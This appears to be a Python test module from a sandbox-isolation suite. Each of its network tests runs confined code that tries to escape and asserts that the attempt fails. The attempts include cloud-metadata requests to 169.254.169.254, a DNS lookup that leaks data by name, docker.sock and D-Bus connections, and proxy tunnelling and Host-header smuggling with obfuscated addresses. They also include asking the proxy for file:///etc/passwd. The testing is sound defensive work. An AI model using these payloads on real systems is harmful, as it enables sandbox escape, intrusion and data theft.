"""Attacks by the network: reaching what is not allowed, directly or by way of what is."""

from __future__ import annotations

import secrets
import socket
import subprocess
import sys
import tempfile
from pathlib import Path

from tests.isolation.arena import Arena
from tests.isolation.attack import CONFINED, Group
from tests.workflow.nodes.scripted_server import ScriptedServer, response

NETWORK = Group("network", "The network")

_ASKS = """
    import socket, urllib.error, urllib.request
    # Otherwise what is on this machine is asked for directly, which leads nowhere.
    os.environ["no_proxy"] = os.environ["NO_PROXY"] = ""
    def get(url):
        try:
            with urllib.request.urlopen(url, timeout=30) as answer: return answer.read(200)
        except urllib.error.HTTPError as error:
            raise OSError(f"{error.code} {error.read(300)!r}")
    def proxy():
        host, _, port = os.environ["http_proxy"].removeprefix("http://").rpartition(":")
        return socket.create_connection((host, int(port)), 30)
    def ask(head):
        with proxy() as way:
            way.sendall(head)
            way.shutdown(socket.SHUT_WR)
            answer = b""
            while chunk := way.recv(4096): answer += chunk
        must(b"served" in answer, answer)
        return answer
"""


def _serving() -> ScriptedServer:
    """A server that anybody may reach who gets there."""
    return ScriptedServer(response("served"))


# -- directly -------------------------------------------------------------------------------------


@NETWORK("connecting to a server on this machine", CONFINED)
def connecting(arena: Arena) -> None:
    with arena.listener() as port:
        outcome = arena.attack(f"""
            import socket
            for host in ("127.0.0.1", "localhost", "0.0.0.0", "127.1.2.3"):
                attempt(host, socket.create_connection, (host, {port}), 10)
        """)
    outcome.says("127.0.0.1: ")


@NETWORK("connecting to a server on this machine by IPv6", CONFINED)
def connecting_by_ipv6(arena: Arena) -> None:
    if not _has_ipv6():
        arena.attack(
            "import socket\nattempt('IPv6', socket.create_connection, ('::1', 9), 10)"
        ).says("IPv6: ")
        return
    with arena.listener(address="::1") as port:
        outcome = arena.attack(f"""
            import socket
            for host in ("::1", "::"):
                attempt("IPv6", socket.create_connection, (host, {port}), 10)
        """)
    outcome.says("IPv6: ")


def _has_ipv6() -> bool:
    try:
        with socket.socket(socket.AF_INET6) as one:
            one.bind(("::1", 0))
    except OSError:
        return False
    return True


@NETWORK("sending datagrams to a server on this machine", CONFINED)
def sending_datagrams(arena: Arena) -> None:
    with arena.listener(socket.SOCK_DGRAM) as port:
        arena.attack(f"""
            import socket
            def send():
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
                    one.sendto(b"hello", ("127.0.0.1", {port}))
            effort("datagram", send)
        """).says("datagram: ")


# Nothing is sent where these fail as they must: there is no route that they could take.
NETWORK.code(
    "asking for the metadata of the machine in a cloud",
    """
    import socket
    def send():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.sendto(b"hello", ("169.254.169.254", 80))
    attempt("metadata", socket.create_connection, ("169.254.169.254", 80), 5)
    attempt("metadata by datagram", send)
    """,
    promised=CONFINED,
    says="metadata: ",
)
NETWORK.code(
    "asking a name server, and telling it something by the name",
    """
    import socket
    attempt("name", socket.getaddrinfo, "secret.attack.invalid", 80)
    attempt("name", socket.gethostbyname, "example.org")
    """,
    promised=CONFINED,
    says="name: ",
)
NETWORK.code(
    "sending to everybody: broadcast and multicast",
    """
    import socket
    def send(address):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            one.sendto(b"hello", (address, 9))
    for address in ("255.255.255.255", "224.0.0.251", "239.255.255.250"):
        attempt(address, send, address)
    """,
    promised=CONFINED,
    says="255.255.255.255: ",
)
NETWORK.code(
    "making packets by itself, and talking to devices and to a host machine",
    """
    import socket
    attempt("raw", socket.socket, socket.AF_INET, socket.SOCK_RAW, 1)
    attempt("packet", socket.socket, socket.AF_PACKET, socket.SOCK_RAW, 3)
    attempt("vsock", socket.socket, 40, socket.SOCK_STREAM)
    attempt("bluetooth", socket.socket, 31, socket.SOCK_RAW, 1)
    attempt("can", socket.socket, 29, socket.SOCK_RAW, 1)
    """,
    promised=CONFINED,
    says="raw: ",
)
NETWORK.code(
    "setting up a network of its own",
    """
    import fcntl, socket, struct
    def bring_up(name):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            fcntl.ioctl(one, 0x8914, struct.pack("16sH22x", name, 1))
    def address(name):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            data = struct.pack("16sHH4s8x", name, socket.AF_INET, 0, socket.inet_aton("10.9.8.7"))
            fcntl.ioctl(one, 0x8916, data)
    attempt("up", bring_up, b"eth0")
    attempt("address", address, b"lo")
    attempt("tun", opened, "/dev/net/tun", os.O_RDWR)
    """,
    promised=CONFINED,
    says="address: ",
)


@NETWORK("connecting to an abstract socket, such as that of a desktop", CONFINED)
def abstract_socket(arena: Arena) -> None:
    name = f"attack-{secrets.token_hex(8)}"
    with arena.unix_listener(f"\0{name}".encode()):
        outcome = arena.attack(f"""
            import socket
            attempt("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\\0{name}"))
        """)
    outcome.says("abstract: ")


@NETWORK("connecting to an abstract socket as an agent, which has the user's network", CONFINED)
def abstract_socket_of_an_agent(arena: Arena) -> None:
    name = f"attack-{secrets.token_hex(8)}"
    (arena.sandbox / "attack.py").write_text(
        f"""
import socket, sys
own = "\\0{name}-own"
def connect(name): socket.socket(socket.AF_UNIX).connect(name)
def listen():
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(own)
    listener.listen()
    return listener
def attempt(what, action, *arguments):
    try:
        return action(*arguments)
    except OSError as error:
        print(f"{{what}}:", error)
listener = attempt("own", listen)
if listener: connect(own)
attempt("abstract", lambda: print("REACHED", connect("\\0{name}")))
sys.exit(1)
"""
    )
    box = arena.isolation().box(write=(arena.sandbox,), private=arena.private).also(network=None)
    with arena.unix_listener(f"\0{name}".encode()):
        outcome = arena.judge(f"{sys.executable} -I -S attack.py", arena.workplace(box))
    assert "abstract: " in outcome.verdict.output


@NETWORK("connecting to a socket of the user's in a directory that is shown", CONFINED)
def socket_that_is_shown(arena: Arena) -> None:
    """Of another process: a socket of our own is there for the command that it was made for."""
    script = (
        "import socket, sys; s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(); "
        "print('up', flush=True); sys.stdin.read(); s.setblocking(False); s.accept()"
    )
    # Its name must be short.
    with tempfile.TemporaryDirectory(dir="/tmp") as directory:
        path = Path(directory, "s")
        (arena.sandbox / "attack.py").write_text(
            "import socket\n"
            f"try: socket.socket(socket.AF_UNIX).connect('{path}'); print('REACHED')\n"
            "except OSError as error: print('shown:', error)\nraise SystemExit(1)\n"
        )
        box = arena.isolation().box(
            write=(arena.sandbox,), read=(Path(directory),), private=arena.private
        )
        with subprocess.Popen(
            [sys.executable, "-I", "-S", "-c", script, str(path)],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        ) as server:
            assert server.stdout is not None
            assert server.stdout.readline() == b"up\n"
            outcome = arena.judge(f"{sys.executable} -I -S attack.py", arena.workplace(box))
            said = server.communicate()[1]
        assert "shown: " in outcome.verdict.output
        assert b"BlockingIOError" in said, "somebody came"


@NETWORK("connecting to the socket of a container engine, or of the user's key agent", CONFINED)
def socket_in_a_file(arena: Arena) -> None:
    # A socket's path must be short.
    path = f"/tmp/attack-{secrets.token_hex(8)}.sock"  # noqa: S108
    with arena.unix_listener(path):
        outcome = arena.attack(f"""
            import socket
            def connect(path): socket.socket(socket.AF_UNIX).connect(path)
            for way in ("{path}", "/proc/self/root{path}", "/proc/1/root{path}"):
                attempt("engine", connect, way)
            for way in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
                attempt("engine", connect, way)
        """)
    outcome.says("engine: ")


@NETWORK("using the user's own proxy", CONFINED)
def the_users_proxy(arena: Arena) -> None:
    with arena.listener() as port:
        outcome = arena.attack(f"""
            import urllib.request
            attempt("variable", lambda: must(os.environ.get("HTTPS_PROXY"), "there is none"))
            handler = urllib.request.ProxyHandler({{"http": "http://127.0.0.1:{port}"}})
            opener = urllib.request.build_opener(handler)
            attempt("proxy", opener.open, "http://example.org", None, 9)
        """)
    outcome.says("variable: ")


@NETWORK("talking to itself, which is allowed, and to nobody else by it", CONFINED)
def own_loopback(arena: Arena) -> None:
    with arena.listener() as port:
        outcome = arena.attack(
            f"""
            import socket
            with socket.create_server(("127.0.0.1", {port})) as server:
                with socket.create_connection(("127.0.0.1", {port}), 30) as one:
                    server.accept()[0].sendall(b"hello")
                    attempt("itself", one.recv, 5)
            """,
            reaches=True,
        )
    outcome.says("REACHED itself: b'hello'")


@NETWORK("connecting to a server on this machine from a project that is repaired", CONFINED)
def connecting_from_a_repair(arena: Arena) -> None:
    with arena.listener() as port:
        finding = arena.fix(f"""
            import socket
            attempt("server", socket.create_connection, ("127.0.0.1", {port}), 10)
        """)
    assert "server: " in finding["sample"]


# -- by what is allowed ---------------------------------------------------------------------------


@NETWORK("reaching one host and port that are allowed, and no other port", CONFINED)
def another_port(arena: Arena) -> None:
    with _serving() as allowed, _serving() as other:
        outcome = arena.attack(
            _ASKS
            + f"""
    attempt("other", get, "http://127.0.0.1:{other.port}/stolen")
    got = get("http://127.0.0.1:{allowed.port}/fine")
    sys.stderr.write(f"allowed: {{got!r}}\\n")
""",
            network=(f"127.0.0.1:{allowed.port}",),
        )
    outcome.says("allowed: b'served'")
    outcome.says("other: OSError: 403")
    outcome.says(f"127.0.0.1:{other.port}")
    assert (allowed.paths, other.paths) == (["/fine"], [])


@NETWORK("reaching another port by a tunnel of the proxy", CONFINED)
def tunnelling(arena: Arena) -> None:
    with _serving() as allowed, _serving() as other:
        outcome = arena.attack(
            _ASKS
            + f"""
    for host in ("127.0.0.1:{other.port}", "localhost:{allowed.port}", "127.1:{allowed.port}",
                 "[::1]:{other.port}", "[::ffff:127.0.0.1]:{allowed.port}",
                 "2130706433:{allowed.port}", "127.0.0.1:{allowed.port}@127.0.0.1:{other.port}"):
        head = f"CONNECT {{host}} HTTP/1.1\\r\\n\\r\\nGET /stolen HTTP/1.0\\r\\n\\r\\n"
        attempt("tunnel", ask, head.encode())
""",
            network=(f"127.0.0.1:{allowed.port}",),
        )
    outcome.says("403")
    assert (allowed.paths, other.paths) == ([], [])


@NETWORK("naming one host to the proxy and another one in the request", CONFINED)
def another_host_header(arena: Arena) -> None:
    with _serving() as allowed, _serving() as other:
        arena.attack(
            _ASKS
            + f"""
    good, bad = "127.0.0.1:{allowed.port}", "127.0.0.1:{other.port}"
    for url in (f"http://{{bad}}/", f"http://{{good}}@{{bad}}/", f"http://{{bad}}#{{good}}/",
                f"http://{{bad}}\\\\@{{good}}/", f"http://{{bad}}/ http://{{good}}/"):
        attempt("other", ask, f"GET {{url}} HTTP/1.1\\r\\nHost: {{good}}\\r\\n\\r\\n".encode())
    # One that is allowed, with another one right behind it.
    first, second = (f"GET http://{{one}}/ HTTP/1.1\\r\\n\\r\\n" for one in (good, bad))
    effort("behind", ask, (first + second).encode())
""",
            network=(f"127.0.0.1:{allowed.port}",),
        ).says("403")
    assert other.paths == []


@NETWORK("having the proxy read files, or feeding it what is no request", CONFINED)
def garbage(arena: Arena) -> None:
    with _serving() as allowed:
        outcome = arena.attack(
            _ASKS
            + """
    def refused(head):
        with proxy() as way:
            way.sendall(head)
            way.shutdown(socket.SHUT_WR)
            answer = b""
            while chunk := way.recv(4096): answer += chunk
        sys.stderr.write(f"{head[:40]!r}: {answer[:300]!r}\\n")
        must(b" 200 " in answer[:20], "refused")
    for line in (b"GET file:///etc/passwd", b"GET /etc/passwd", b"CONNECT unix:/run/docker.sock",
                 b"CONNECT :0", b"CONNECT 127.0.0.1:99999", b"\\0\\xff", b"", b"GET http://",
                 b"x" * 100_000):
        head = line + b" HTTP/1.1\\r\\n\\r\\n"
        try: refused(head)
        except (OSError, ValueError) as error: sys.stderr.write(f"garbage: {error}\\n")
        else: sys.stdout.write("REACHED by garbage\\n")
""",
            network=(f"127.0.0.1:{allowed.port}",),
        )
    outcome.says("400")


@NETWORK("going around the proxy where something is allowed", CONFINED)
def around_the_proxy(arena: Arena) -> None:
    with _serving() as allowed, arena.listener() as port:
        arena.attack(
            f"""
            import socket
            attempt("direct", socket.create_connection, ("127.0.0.1", {port}), 10)
            """,
            network=(f"127.0.0.1:{allowed.port}",),
        ).says("direct: ")
    assert allowed.paths == []
